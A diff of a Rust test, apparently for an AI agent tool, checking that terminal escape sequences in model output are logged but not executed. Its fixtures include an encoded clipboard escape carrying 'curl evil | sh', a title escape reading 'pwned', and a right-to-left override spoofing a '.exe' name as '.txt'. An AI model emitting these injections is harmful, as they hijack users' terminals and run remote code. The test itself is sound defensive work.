@@ -254,6 +254,17 @@ fn a_model_cannot_drive_the_terminal() {
     }
     assert_eq!(stdout.trim(), "\\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\\u{7}\\u{1b}[2JDone.\\u{202e}txt.exe");
     assert!(stderr.contains("\\u{1b}]0;pwned\\u{7}list_files"), "{stderr}");
+    // The history lists the answer as logged, shown, not obeyed; `memory read` into a pipe
+    // copies a file byte for byte.
+    let history = ws.cmd(None, &["history", "--session", "s"]).output().unwrap();
+    let listed = String::from_utf8_lossy(&history.stdout);
+    assert!(history.status.success() && listed.contains("\\u{1b}]52;c;") && !listed.contains('\u{1b}'), "{listed:?}");
+    let notes = "reversed \u{202e}as written\n";
+    let file = ws.root.join("n.md");
+    std::fs::write(&file, notes).unwrap();
+    assert!(ws.cmd(None, &["memory", "write", "--session", "s", "working-memory/detail/n.md", file.to_str().unwrap()]).output().unwrap().status.success());
+    let read = ws.cmd(None, &["memory", "read", "--session", "s", "working-memory/detail/n.md"]).output().unwrap();
+    assert_eq!(String::from_utf8_lossy(&read.stdout), notes);
 }
 
 /// A worker on a shared board (spec 002 §4): each request carries its task's brief, nudges
